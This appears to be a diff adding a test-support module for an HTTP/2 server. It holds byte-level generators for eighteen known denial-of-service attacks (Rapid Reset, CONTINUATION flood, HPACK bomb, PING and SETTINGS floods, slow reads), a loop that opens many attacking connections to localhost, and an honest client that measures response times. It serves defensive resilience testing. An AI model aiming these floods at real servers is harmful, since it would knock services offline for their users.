@@ -1,0 +1,293 @@
+"""The hostile clients, each a sequence of bytes for one connection, and the honest one.
+
+A client has a name, the number of its advisory or of the section that it abuses, and says whether it reads.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import time
+from collections.abc import Callable, Iterator
+from typing import NamedTuple
+
+from pronghorn.http2_constants import (
+    ACK,
+    CANCEL,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    INITIAL_WINDOW_SIZE,
+    PADDED,
+    PING,
+    PREFACE,
+    SETTINGS,
+)
+from tests.support.http2 import (
+    GET,
+    block,
+    data,
+    frame,
+    get,
+    headers,
+    literal,
+    ping,
+    post,
+    priority,
+    rst_stream,
+    settings,
+    window_update,
+)
+
+Bytes = Iterator[bytes]
+STREAMS = range(1, 1 << 30, 2)
+PATIENCE = 30
+
+
+class Attack(NamedTuple):
+    """`sends` gives the bytes of one connection after the greeting; without `reads`, nothing is read."""
+
+    name: str
+    source: str
+    sends: Callable[[], Bytes]
+    reads: bool = True
+
+
+def rapid_reset() -> Bytes:
+    for number in STREAMS:
+        yield get(number, b"/hold") + rst_stream(number, CANCEL)
+
+
+def made_you_reset() -> Bytes:
+    for number in STREAMS:
+        yield get(number, b"/hold") + window_update(number, 0)
+
+
+def continuations() -> Bytes:
+    yield frame(HEADERS, END_STREAM, 1, block(*GET))
+    while True:
+        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * 10
+
+
+def hpack_bomb() -> Bytes:
+    """A field of 4 KiB in the table, and thousands of references to it in each head."""
+    kept = b"\x40" + literal(b"x", b"v" * 4000)[1:]
+    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block(*GET) + kept)
+    for number in STREAMS[1:]:
+        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block(*GET) + b"\xbe" * 16000)
+
+
+def cookie_crumbs() -> Bytes:
+    kept = b"\x40" + literal(b"cookie", b"a=b")[1:]
+    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block(*GET) + kept)
+    for number in STREAMS[1:]:
+        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block(*GET) + b"\xbe" * 16000)
+
+
+def settings_flood() -> Bytes:
+    while True:
+        yield settings((INITIAL_WINDOW_SIZE, 65535)) * 50
+
+
+def window_churn() -> Bytes:
+    """The initial window changes while many streams are open, so that each change concerns them all."""
+    yield b"".join(get(number, b"/hold") for number in STREAMS[:100])
+    while True:
+        yield (settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 65535))) * 50
+
+
+def ping_flood() -> Bytes:
+    while True:
+        yield ping() * 50
+
+
+def priority_flood() -> Bytes:
+    while True:
+        yield b"".join(priority(number) for number in STREAMS[:50])
+
+
+def window_update_flood() -> Bytes:
+    yield post(1)
+    while True:
+        yield window_update(1, 1) * 50 + window_update(0, 1) * 50
+
+
+def empty_data() -> Bytes:
+    yield post(1)
+    while True:
+        yield data(1) * 50
+
+
+def padding() -> Bytes:
+    yield post(1)
+    while True:
+        yield frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 20
+
+
+def tiny_data() -> Bytes:
+    """Bodies in frames of one byte, which nobody reads."""
+    for number in STREAMS[:100]:
+        yield post_to(number, b"/hold") + data(number, b"x") * 5000
+    yield from silence()
+
+
+def unread_bodies() -> Bytes:
+    """As much as the window of the connection admits."""
+    for number in STREAMS[:16]:
+        yield post_to(number, b"/hold") + data(number, b"x" * 16000) * 4
+    yield from silence()
+
+
+def slow_read_of_streams() -> Bytes:
+    """Large answers to many streams whose windows stay closed."""
+    yield settings((INITIAL_WINDOW_SIZE, 0))
+    yield b"".join(get(number, b"/large") for number in STREAMS[:100])
+    yield from silence()
+
+
+def slow_read_of_socket() -> Bytes:
+    yield settings((INITIAL_WINDOW_SIZE, 0x7FFFFFFF)) + window_update(0, 0x7FFF0000 - 65535)
+    yield b"".join(get(number, b"/large") for number in STREAMS[:100])
+    yield from silence()
+
+
+def unread_answers() -> Bytes:
+    """Frames that have to be answered, from a client that reads no answer."""
+    while True:
+        yield ping() * 50
+
+
+def slow_head() -> Bytes:
+    head = get(1, b"/", (b"x", b"y" * 1000))
+    for at in range(len(head) - 1):
+        yield head[at : at + 1]
+        time.sleep(0.05)
+    yield from silence()
+
+
+def silence() -> Bytes:
+    while True:
+        time.sleep(0.05)
+        yield b""
+
+
+def post_to(number: int, path: bytes) -> bytes:
+    return headers(number, (b":method", b"POST"), *GET[1:3], (b":path", path), ends=False)
+
+
+ATTACKS = (
+    Attack("Rapid Reset", "CVE-2023-44487", rapid_reset),
+    Attack("MadeYouReset", "CVE-2025-8671", made_you_reset),
+    Attack("CONTINUATION flood", "CVE-2024-27316", continuations),
+    Attack("HPACK bomb", "CVE-2016-6581", hpack_bomb),
+    Attack("cookie crumbs", "CVE-2026-49975", cookie_crumbs),
+    Attack("SETTINGS flood", "CVE-2019-9515", settings_flood),
+    Attack("window churn", "RFC 9113 section 6.9.2", window_churn),
+    Attack("PING flood", "CVE-2019-9512", ping_flood),
+    Attack("PRIORITY flood", "CVE-2019-9513", priority_flood),
+    Attack("WINDOW_UPDATE flood", "RFC 9113 section 10.5", window_update_flood),
+    Attack("empty DATA", "CVE-2019-9518", empty_data),
+    Attack("padding", "RFC 9113 section 10.7", padding),
+    Attack("tiny DATA", "RUSTSEC-2026-0258", tiny_data),
+    Attack("unread bodies", "RFC 9113 section 10.5", unread_bodies),
+    Attack("slow read of streams", "CVE-2019-9517", slow_read_of_streams),
+    Attack("slow read of the socket", "CVE-2019-9511", slow_read_of_socket, reads=False),
+    Attack("unread answers", "CVE-2019-9512", unread_answers, reads=False),
+    Attack("slow head", "CVE-2026-56853", slow_head),
+)
+
+
+def attack(chosen: Attack, port: int, until: float, connections: int) -> int:
+    """Attack the server at `port` until `time.monotonic()` is `until`. Connections that end are opened again.
+
+    Return how many were opened.
+    """
+    opened = 0
+    sockets: list[tuple[socket.socket, Bytes, bytearray]] = []
+    while time.monotonic() < until:
+        while len(sockets) < connections:
+            opened += 1
+            made = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
+            made.setblocking(False)
+            sockets.append((made, chosen.sends(), bytearray(PREFACE + settings() + frame(SETTINGS, ACK))))
+        for each in list(sockets):
+            if not _step(*each, chosen.reads):
+                sockets.remove(each)
+                each[0].close()
+    for each in sockets:
+        each[0].close()
+    return opened
+
+
+def _step(made: socket.socket, sends: Bytes, waiting: bytearray, reads: bool) -> bool:
+    """Send and read what is possible at once. Return false if the connection has ended."""
+    try:
+        if not waiting:
+            waiting += next(sends, b"")
+        if waiting:
+            with contextlib.suppress(BlockingIOError):
+                del waiting[: made.send(waiting)]
+        if reads:
+            with contextlib.suppress(BlockingIOError):
+                return bool(made.recv(65536))
+    except OSError:
+        return False
+    return True
+
+
+class Honest:
+    """A client with one connection at a time, which sends `rate` requests a second and measures each."""
+
+    def __init__(self, port: int, rate: int) -> None:
+        self._port = port
+        self._pause = 1 / rate
+        self.times: list[float] = []
+        self.failures = 0
+
+    def run(self, until: float) -> None:
+        """Send requests until `time.monotonic()` is `until`."""
+        number = 0
+        due = time.monotonic()
+        connection = None
+        while due < until:
+            time.sleep(max(0.0, due - time.monotonic()))
+            if connection is None:
+                connection = socket.create_connection(("127.0.0.1", self._port), timeout=PATIENCE)
+                connection.sendall(PREFACE + settings() + frame(SETTINGS, ACK))
+                number = -1
+            number += 2
+            try:
+                connection.sendall(get(number))
+                self._read_until_end(connection, number)
+            except OSError:
+                self.failures += 1
+                connection.close()
+                connection = None
+            else:
+                # From the time when it was due: a slow answer delays the next ones.
+                self.times.append(time.monotonic() - due)
+            due += self._pause
+        if connection is not None:
+            connection.close()
+
+    def quantile(self, share: float) -> float:
+        """The time within which this share of the requests was answered."""
+        times = sorted(self.times)
+        return times[min(len(times) - 1, int(share * len(times)))]
+
+    def _read_until_end(self, connection: socket.socket, number: int) -> None:
+        buffer = b""
+        while True:
+            while len(buffer) < 9 or len(buffer) < 9 + int.from_bytes(buffer[:3], "big"):
+                received = connection.recv(65536)
+                if not received:
+                    raise ConnectionError
+                buffer += received
+            kind, flags, stream = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big")
+            buffer = buffer[9 + int.from_bytes(buffer[:3], "big") :]
+            if kind == PING and not flags & ACK:
+                connection.sendall(ping(flags=ACK))
+            if stream == number and kind in (DATA, HEADERS) and flags & END_STREAM:
+                return
